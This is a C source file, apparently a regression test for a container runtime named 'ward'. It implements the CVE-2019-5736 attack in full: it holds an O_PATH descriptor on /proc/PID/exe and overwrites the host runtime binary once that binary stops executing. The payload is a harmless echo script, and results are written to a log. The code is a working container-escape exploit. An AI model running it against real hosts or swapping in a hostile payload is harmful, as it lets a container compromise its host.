/*
 * exe_attack: the CVE-2019-5736 attack on a container runtime.
 *
 * A process that can see the runtime while it runs inside the container's
 * pid namespace (ward's init before it execs the user process, or a
 * process entering the container) opens /proc/<pid>/exe. While the runtime
 * still executes, the file cannot be opened for writing (ETXTBSY), so the
 * attacker keeps an O_PATH descriptor and, once the runtime has exec'd or
 * exited, reopens it through /proc/self/fd/<n> for writing and overwrites
 * the binary the next runtime invocation on the host will execute.
 *
 *   exe_attack scan OUT READY SECONDS
 *	Inside a container: wait for processes other than ourselves whose
 *	exe can be opened and is not a file of our own image; hold them. Creates READY once targets are
 *	held, then tries to write through them until SECONDS have passed.
 *   exe_attack victim PID OUT READY SECONDS
 *	The same against one given process (the sanity check on the host:
 *	against an ordinary binary the attack really works).
 *
 * Everything observed goes to OUT, one line per event:
 *	target PID exe=<link> seals=<hex|none> mount=<ro|rw>
 *	open-wronly PID <errno name>      direct O_WRONLY open of /proc/PID/exe
 *	reopen PID <ok|errno name>        O_WRONLY through the held O_PATH fd
 *	write PID <ok|errno name>
 *	RESULT overwritten|failed|no-target
 *
 * Build: cc -static -O2 -o exe_attack exe_attack.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 16
#define PAYLOAD "#!/bin/sh\necho WARD-CVE-2019-5736-PAYLOAD\n"

struct target {
	pid_t pid;
	int fd;		/* O_PATH, held across the target's exec */
	int last_reopen, last_write; /* last errno reported, -1 none yet */
};

static struct target targets[MAX_TARGETS];
static int n_targets;
static FILE *out;
static int scanning;

static const char *ename(int e)
{
	const char *n = e ? strerrorname_np(e) : "ok";

	return n ? n : "E?";
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int held(pid_t pid)
{
	for (int i = 0; i < n_targets; i++)
		if (targets[i].pid == pid)
			return 1;
	return 0;
}

/* Open /proc/PID/exe the ways the exploit does; keep an O_PATH fd. */
static void grab(pid_t pid)
{
	char path[64], link[4096];
	struct stat mine, there;
	ssize_t n;
	int fd, ro, wr, seals = -1;
	struct statvfs vfs;
	const char *mnt;

	if (n_targets == MAX_TARGETS || held(pid))
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	/* Scanning, a program of our own image is not the runtime: leave it. */
	if (scanning && fstat(fd, &mine) == 0 && stat(link, &there) == 0 && mine.st_dev == there.st_dev &&
	    mine.st_ino == there.st_ino) {
		close(fd);
		return;
	}
	ro = open(path, O_RDONLY | O_CLOEXEC);
	if (ro >= 0) {
		seals = fcntl(ro, F_GET_SEALS);
		close(ro);
	}
	mnt = fstatvfs(fd, &vfs) < 0 ? "?" : (vfs.f_flag & ST_RDONLY) ? "ro" : "rw";
	if (seals >= 0)
		fprintf(out, "target %d exe=%s seals=%#x mount=%s\n", pid, link, seals, mnt);
	else
		fprintf(out, "target %d exe=%s seals=none mount=%s\n", pid, link, mnt);
	wr = open(path, O_WRONLY | O_CLOEXEC);
	fprintf(out, "open-wronly %d %s\n", pid, wr < 0 ? ename(errno) : "ok");
	if (wr >= 0)
		close(wr);
	targets[n_targets++] = (struct target){ pid, fd, -1, -1 };
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d)) != NULL) {
		char *end;
		long pid = strtol(e->d_name, &end, 10);

		if (*end || pid <= 0 || pid == getpid())
			continue;
		grab((pid_t)pid);
	}
	closedir(d);
}

/* One attempt through every held fd; 1 once something was overwritten. */
static int attempt(void)
{
	int done = 0;

	for (int i = 0; i < n_targets; i++) {
		struct target *t = &targets[i];
		char path[64];
		int fd, e = 0;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", t->fd);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			e = errno;
		if (e != t->last_reopen) {
			fprintf(out, "reopen %d %s\n", t->pid, ename(e));
			t->last_reopen = e;
		}
		if (fd < 0)
			continue;
		n = pwrite(fd, PAYLOAD, strlen(PAYLOAD), 0);
		e = n == (ssize_t)strlen(PAYLOAD) ? 0 : n < 0 ? errno : EIO;
		close(fd);
		if (e != t->last_write) {
			fprintf(out, "write %d %s\n", t->pid, ename(e));
			t->last_write = e;
		}
		if (e == 0)
			done = 1;
	}
	return done;
}

static int touch(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, "ready\n", 6);
	close(fd);
	return n == 6 ? 0 : -1;
}

int main(int argc, char **argv)
{
	const char *outpath, *ready;
	double deadline;
	pid_t victim = 0;
	int overwritten = 0;

	if (argc == 5 && strcmp(argv[1], "scan") == 0) {
		outpath = argv[2];
		ready = argv[3];
		deadline = now() + atof(argv[4]);
		scanning = 1;
	} else if (argc == 6 && strcmp(argv[1], "victim") == 0) {
		victim = (pid_t)atoi(argv[2]);
		outpath = argv[3];
		ready = argv[4];
		deadline = now() + atof(argv[5]);
	} else {
		fprintf(stderr, "usage: exe_attack scan OUT READY SECONDS\n"
				"       exe_attack victim PID OUT READY SECONDS\n");
		return 2;
	}
	out = fopen(outpath, "we");
	if (!out) {
		perror(outpath);
		return 1;
	}
	setvbuf(out, NULL, _IOLBF, 0);

	/* Phase 1: get hold of the runtime's executable. */
	while (n_targets == 0 && now() < deadline) {
		if (victim)
			grab(victim);
		else
			scan();
		/* Spin: the window can be a few milliseconds. */
	}
	if (n_targets == 0) {
		fprintf(out, "RESULT no-target\n");
		return 1;
	}
	if (touch(ready) < 0)
		fprintf(out, "ready %s %s\n", ready, ename(errno));

	/* Phase 2: write as soon as the file is no longer executing. No new
	 * targets: once the runtime has exec'd the container's program, that
	 * program is the container's own file, fair game and not the point. */
	while (!overwritten && now() < deadline) {
		overwritten = attempt();
		usleep(1000);
	}
	fprintf(out, "RESULT %s\n", overwritten ? "overwritten" : "failed");
	return overwritten ? 0 : 1;
}
